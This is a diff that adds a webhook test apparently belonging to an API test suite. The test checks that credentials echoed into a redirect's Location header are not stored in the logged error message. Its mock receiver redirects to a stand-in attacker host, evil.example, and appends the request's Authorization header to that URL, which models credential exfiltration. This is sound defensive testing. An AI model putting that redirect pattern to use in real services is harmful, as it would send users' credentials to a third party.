@@ -109,4 +109,25 @@ describeEachDialect('credentials echoed by a receiver', (dialect) => {
     expect(stored).not.toContain(`${USER}:pw`);
     expect(stored).not.toMatch(/password=pw/);
   });
+
+  it('stores no credentials echoed into a redirect’s Location either', async () => {
+    const hook = await hookWith(PASSWORD);
+    const token = Buffer.from(`${USER}:${PASSWORD}`).toString('base64');
+    receiver.queue((res) => {
+      res.writeHead(302, {
+        location: `https://evil.example/?auth=${encodeURIComponent(String(res.req.headers.authorization))}`,
+      });
+      res.end();
+    });
+    h.clock.advance(61_000);
+    const test = await call(h, {
+      method: 'POST',
+      url: `/v1/facility/${fac.id}/webhooks/${hook}/test`,
+      key: fac.key,
+    });
+    const attempt = test.json.attempt;
+    expect(attempt.error_class).toBe('redirect');
+    expect(attempt.error_message).toContain('redirect to https://evil.example/');
+    expect(leaksOf(attempt.error_message, [token, PASSWORD])).toEqual([]);
+  });
 });
